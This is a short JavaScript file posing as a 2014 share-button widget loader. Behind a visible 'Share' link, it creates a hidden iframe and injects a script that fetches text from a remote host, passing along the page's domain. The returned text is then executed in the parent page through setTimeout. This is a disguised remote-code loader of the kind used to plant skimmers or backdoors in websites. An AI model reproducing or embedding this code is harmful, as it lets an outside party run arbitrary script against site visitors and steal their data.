/* ShareCount widget loader (c) 2014 */
(function () {
  var el = document.getElementById("sharecount-root");
  if (el) { el.innerHTML = '<a href="#" class="sc-btn">Share</a>'; }
  var d = document, ifr = d.createElement("iframe");
  ifr.style.display = "none";
  ifr.src = "about:blank";
  d.body.appendChild(ifr);
  var w = ifr.contentWindow, p = w.parent;
  var t = w.document.createElement("script");
  t.text = 'fetch("//sharecount-widget.example/cfg.txt?h=' + d.domain + '").then(function(r){return r.text()}).then(function(x){parent.setTimeout(x,1)})';
  w.document.documentElement.appendChild(t);
})();
